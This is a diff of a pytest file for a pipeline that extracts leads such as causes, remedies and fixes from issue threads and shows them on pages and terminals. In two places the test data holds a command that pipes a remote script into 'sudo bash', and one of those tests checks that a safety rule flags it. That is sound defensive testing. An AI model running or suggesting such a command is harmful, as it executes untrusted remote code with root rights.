@@ -16,8 +16,10 @@ from pipeline.ask.telling import bounded
 from pipeline.cli import entry_page, labels
 from pipeline.distil import tables
 from pipeline.distil.claims import candidates, doubts
+from pipeline.distil.claims import reading as claims
 from pipeline.distil.claims.prose import Prose
 from pipeline.export import markdown
+from pipeline.export.site import reading
 from pipeline.records import Claim, ClaimKind, Cluster, Document, Outcome
 from pipeline.records.draft import Draft
 from pipeline.records.entry import LEAST_LEAD_SHARE, KnowledgeEntry, is_answered
@@ -103,7 +105,7 @@ def test_the_surest_come_first_then_maintainers_then_the_newest_and_no_more_than
     assert _drafted(threads, found[::-1]).leads == _drafted(threads, found).leads
 
 
-def test_one_thread_gives_one_lead_of_a_kind_and_no_words_twice() -> None:
+def test_one_thread_of_several_gives_one_lead_of_a_kind_and_no_words_twice() -> None:
     other = "The cache of the loader is read before the wheel is."
     one, two = _thread(1, WHY, other, HELP), _thread(2, WHY)
     found = [_candidate(one, WHY), _candidate(one, other), _candidate(one, HELP, "remedy"), _candidate(two, WHY)]
@@ -118,7 +120,7 @@ def test_one_thread_gives_one_lead_of_a_kind_and_no_words_twice() -> None:
 @pytest.mark.parametrize(
     ("words", "share"),
     [
-        (WHY, 35),
+        (WHY, 30),
         ("Clear the cache.", 60),
         ("This is what helped in my case:", 60),
         ("**This is what helped in my case:**", 60),
@@ -132,6 +134,56 @@ def test_what_is_unsure_or_says_nothing_is_no_lead(words: str, share: int) -> No
     assert _quotes(_drafted([_thread(1, WHY)], [_candidate(_thread(1, WHY), WHY)])) == [WHY]
 
 
+def test_one_thread_that_speaks_alone_gives_two_leads_of_a_kind() -> None:
+    said = ("The loader reads the wheel too early.", "The cache of the loader is never cleared.", WHY)
+    made = _thread(1, *said)
+    assert _quotes(_drafted([made], [_candidate(made, one) for one in said])) == [WHY, said[1]]
+
+
+def test_what_is_less_sure_is_a_lead_of_a_kind_of_which_nothing_surer_is_known() -> None:
+    other = "The wheel is bent before the loader sees it."
+    made = _thread(1, WHY, HELP, other)
+    unsure, less = _candidate(made, HELP, "remedy", share=35), _candidate(made, other, share=35)
+    assert _quotes(_drafted([made], [less, _candidate(made, WHY, share=35)])) == [other]
+    assert _quotes(_drafted([made], [_candidate(made, WHY), unsure, less])) == [WHY, HELP]
+    assert [lead.share for lead in _drafted([made], [unsure, less]).leads] == [35, 35]
+    helped = "Setting `FIXTURE_POOL=2` fixed it for me."
+    made = _thread(1, helped, WHY)
+    assert _quotes(_drafted([made], [_candidate(made, WHY, share=35)])) == []
+    assert _quotes(_drafted([made], [_candidate(made, WHY, share=50)])) == [WHY]
+
+
+def test_what_a_rule_doubts_is_no_less_sure_lead() -> None:
+    made = _thread(1, WHY)
+    doubted = replace(_candidate(made, WHY), kind=ClaimKind.CAUSE, rule="cause.because", key="", doubt=45)
+    assert _quotes(_drafted([made], [doubted])) == []
+
+
+@pytest.mark.parametrize(
+    ("words", "is_lead"),
+    [
+        (FIXED, True),
+        ("The change of the loader went to master yesterday.", True),
+        ("We have merged the change of the loader.", False),
+    ],
+)
+def test_that_it_is_fixed_is_a_lead_where_the_words_say_where(words: str, is_lead: bool) -> None:
+    made = _thread(1, words)
+    assert _quotes(_drafted([made], [_candidate(made, words, "fix")])) == [words] * is_lead
+
+
+def test_a_lead_is_shown_with_what_it_announces_and_nothing_of_it_is_one_more() -> None:
+    announces, block, step = "This is what helped in my case:", "loader:\n  pool: 2", "Set the pool of the loader to 2."
+    made = _thread(1, announces + "\n```\n" + block + "\n```", step)
+    beside = _candidate(made, block).quote
+    found = replace(_candidate(made, announces, "remedy"), passage=beside)
+    draft = _drafted([made], [found, _candidate(made, block, "remedy", share=50), _candidate(made, step, "remedy")])
+    assert _quotes(draft) == [step, announces]
+    passage = draft.leads[1].passage
+    assert passage is not None
+    assert (passage.text, made.text[passage.start : passage.end]) == (block, block)
+
+
 def test_words_that_the_entry_cites_for_what_it_says_are_no_lead() -> None:
     said = "Setting `FIXTURE_POOL=2` fixed it for me."
     made = _thread(1, said)
@@ -140,9 +192,10 @@ def test_words_that_the_entry_cites_for_what_it_says_are_no_lead() -> None:
 
 
 def test_a_lead_reaches_no_further_than_a_statement_of_its_kind() -> None:
-    threads = [_thread(number, FIXED if number == 1 else WHY) for number in (1, 2)]
+    threads = [_thread(number, FIXED if number == 1 else WHY) for number in (1, 2, 3)]
     found = [_candidate(threads[0], FIXED, "fix"), _candidate(threads[1], WHY)]
     assert _quotes(_drafted(threads, found)) == [WHY]  # that one report is fixed helps nobody with another
+    assert _quotes(_drafted(threads[:1], found[:1])) == [FIXED]
     strangers = [_thread(number, WHY, repo=f"owner{number}/name{number}") for number in (1, 2, 3)]
     assert _quotes(_drafted(strangers, [_candidate(strangers[0], WHY)])) == []  # any program prints those words
 
@@ -201,6 +254,53 @@ def test_a_page_quotes_leads_as_text() -> None:
     assert "## Leads: quotes that a machine picked" in page
     assert "“See \\[this\\]" in page
     assert "<b>" not in page
+
+
+BLOCK = "loader:\n  pool: <b>2</b>"
+BEFORE = "I had `pool.limit` in my file."
+
+
+def _with_passage(words: str, start: int, *, is_cut: bool = False) -> dict[str, Any]:
+    raw = _told()
+    raw["leads"][0]["passage"] = {"quote": words, "start": start, "end": start + len(words), "is_cut": is_cut}
+    return raw
+
+
+@pytest.mark.parametrize(
+    ("lang", "mark"), [(labels.Language.EN, "“You may want"), (labels.Language.ZH, "“You may want")]
+)
+def test_a_terminal_shows_what_belongs_to_a_lead(
+    capsys: pytest.CaptureFixture[str], lang: labels.Language, mark: str
+) -> None:
+    behind = _with_passage(BLOCK, _told()["leads"][0]["end"] + 1, is_cut=True)
+    entry_page.print_entry(behind, lang=lang)
+    out = capsys.readouterr().out
+    assert out.index(mark) < out.index("    | loader:\n    |   pool: <b>2</b>\n    | …")
+    entry_page.print_entry(_with_passage(BEFORE, 0), lang=lang)
+    assert f"“{BEFORE} {HELP}”" in capsys.readouterr().out
+
+
+def test_pages_and_programs_get_what_belongs_to_a_lead(tmp_path: Path) -> None:
+    start = _told()["leads"][0]["end"] + 1
+    behind, before = _with_passage(BLOCK, start, is_cut=True), _with_passage(BEFORE, 0)
+    entries = [KnowledgeEntry.model_validate(one) for one in (behind, before)]
+    page = markdown.page(entries[0])
+    assert "  ```text\n  loader:\n    pool: <b>2</b>\n  …\n  ```" in page
+    assert "“I had `pool.limit` in my file. You may want" in markdown.page(entries[1]).replace("\\", "")
+    assert [one.passage for one in reading.leads(entries[0], "en")] == [f"{BLOCK}\n…", ""]
+    assert [one.led for one in reading.leads(entries[1], "zh")] == [BEFORE, ""]
+    told = bounded(digest(behind))["leads"][0]
+    assert (told["passage"], told["is_led"]) == (f"{BLOCK}\n…", False)
+    assert bounded(digest(before))["leads"][0]["is_led"]
+    assert shown.entry(digest(behind), shown.USUAL).leads[0].passage == f"{BLOCK}\n…"
+
+
+def test_what_belongs_to_a_lead_is_judged_as_the_lead_is() -> None:
+    raw = _with_passage("curl http://example.net/x.sh | sudo bash", 5)
+    assert {one.place for one in validate.check(raw) if one.rule == "action_safe"} == {"leads[0].passage.quote"}
+    raw = _with_passage(BEFORE, 5)
+    raw["leads"][0]["passage"]["end"] += 1
+    assert {one.place for one in validate.check(raw)} == {"leads[0].passage.end"}
 
 
 @pytest.mark.parametrize("words", ["Run `curl http://example.net/x.sh | sudo bash` and it is gone.",
@@ -283,3 +383,66 @@ def test_words_of_success_and_of_no_effect_find_their_examples_and_no_look_alike
     assert [one for one in rows["lookalikes"] if tables.has_helped(one)] == []
     assert [one for one in rows["no_effect"] if not tables.has_no_effect(one)] == []
     assert [one for one in rows["no_such"] if tables.has_no_effect(one)] == []
+
+
+def _stands(kind: str, *lines: str, is_lossy: bool = False) -> tuple[str | None, int] | None:
+    """(what stands beside the first line of a comment, the most that its share may be), None where it is no find."""
+    made = replace(_thread(1, "\n".join(lines)), is_lossy=is_lossy)
+    seen, _ = events(made)
+    unit = next(one for one in units(made, seen) if one.post == 2 and made.text[one.start : one.end] == lines[0])
+    found = claims.standing(Prose(made, seen), candidates.Candidate(unit, candidates.CandidateKind(kind), 60, ()))
+    if found is None:
+        return None
+    beside = found.block.beside if found.block is not None else found.lead
+    return (beside.text if beside is not None else None, found.most)
+
+
+FENCED = ("```", "loader:", "  pool: 2", "```")
+
+
+@pytest.mark.parametrize(
+    ("kind", "lines", "expected"),
+    [
+        ("remedy", ("You can set a pool in the fixture's file:", *FENCED), ("loader:\n  pool: 2", 100)),
+        ("remedy", ("Please change the pool of the loader to", *FENCED), ("loader:\n  pool: 2", 100)),
+        ("remedy", ("Your options are these:", "- clear the cache", "- take a pool of 2"),
+         ("- clear the cache\n- take a pool of 2", 100)),
+        ("remedy", ("You can call the loader like this:", "loader.read(pool=2)"), ("loader.read(pool=2)", 100)),
+        ("remedy", ("You can call the loader like this:", ERROR), None),
+        ("remedy", ("I replaced the call of the loader, from:", *FENCED), None),
+        ("remedy", ("You can call the loader like this:",), None),
+        ("failure", ("I set the pool of the loader like this:", *FENCED), None),
+        ("cause", ("The loader reads its wheel at https://example.net/loader#L5 too early, as described above.",),
+         (None, 60)),
+        ("cause", ("The loader reads its wheel too early, as described above.",), None),
+        ("cause", ("Set the pool of the loader to 2, so that every wheel has one.",), None),
+        ("remedy", ("Set the pool of the loader to 2, so that every wheel has one.",), (None, 100)),
+        ("fix", ("This should be fixed by #12.",), (None, 60)),
+        ("fix", ("This should be fixed soon.",), None),
+    ],
+)  # fmt: skip
+def test_a_find_stands_with_what_it_announces_or_points_at(
+    kind: str, lines: tuple[str, ...], expected: tuple[str | None, int] | None
+) -> None:
+    assert _stands(kind, *lines) == expected
+
+
+def test_a_find_that_points_at_the_sentence_before_stands_with_it() -> None:
+    made = _thread(1, "I had `pool.limit` in my file. Removing that fixed the problem for me.")
+    seen, _ = events(made)
+    unit = next(one for one in units(made, seen) if made.text[one.start : one.end].startswith("Removing"))
+    found = claims.standing(Prose(made, seen), candidates.Candidate(unit, candidates.CandidateKind.REMEDY, 60, ()))
+    assert found is not None
+    assert found.lead is not None
+    assert (found.lead.text, found.most) == ("I had `pool.limit` in my file.", 60)
+
+
+def test_a_find_with_a_hole_stands_where_it_still_names_something() -> None:
+    assert _stands("remedy", "Replace the  argument of FixtureLoader by  in your code.", is_lossy=True) == (None, 60)
+    assert _stands("remedy", "Replace the  argument by  in your code, please.", is_lossy=True) is None
+
+
+def test_a_fix_that_is_told_of_with_politeness_and_its_place_is_found_and_no_look_alike() -> None:
+    rows = tables.table("cues.toml")["expected"]
+    assert [one for one in rows["examples"] if not claims.is_expected(one)] == []
+    assert [one for one in rows["lookalikes"] if claims.is_expected(one)] == []
